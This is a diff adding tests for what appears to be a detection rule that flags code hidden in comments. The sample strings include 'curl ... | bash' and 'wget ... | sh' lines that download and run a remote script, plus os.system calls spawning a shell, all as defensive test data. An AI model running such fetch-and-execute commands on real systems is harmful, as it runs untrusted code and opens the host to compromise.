@@ -42,6 +42,31 @@ def test_finds_code_of_one_line_with_what_languages_take_behind_a_call(fired: Fi
     assert fired(RULE, files).keys() == files.keys()
 
 
+def test_finds_code_whose_comments_and_strings_are_words(fired: Fired) -> None:
+    written = [
+        b"import os\nos.system('id') # this is a long comment of many words",
+        b"import socket\ns = socket.socket() # make a new socket here now\nos.system('sh')",
+        b"print('this is a plain old text')\nimport os\nos.system('id')",
+        b"var a = 1 // the first of the values here\ndocument.location='http://example.org/'",
+        b"sudo curl http://example.org/x | bash",
+        b"cd /tmp && wget http://example.org/x -O- | sh",
+        b"echo hello; curl http://example.org/x | sh",
+        b'assert __import__("os").system("id")',
+    ]
+    files = in_comments(written)
+    assert fired(RULE, files).keys() == files.keys()
+
+
+def test_is_silent_about_words_on_code(fired: Fired) -> None:
+    told = [
+        b"import os is the first line of the script\nos.system('clear') is what it goes on with\nand then it ends",
+        b"Echo of the past: he typed os.system('clear') and it's what they'd seen before",
+        b"From the slide 'import os' one learns to call os.system(\"id\") and what comes of it",
+        b"Case study of the exam: document.location='x' was what they had asked about",
+    ]
+    assert fired(RULE, in_comments(told)) == {}
+
+
 def test_a_plot_s_source_may_ask_for_versions_and_run_nothing_else(fired: Fired) -> None:
     source = b"Source\0import os, sys, subprocess\nx = subprocess.check_output(['%s', '%s'])\nprint(x)\n"
     files = {
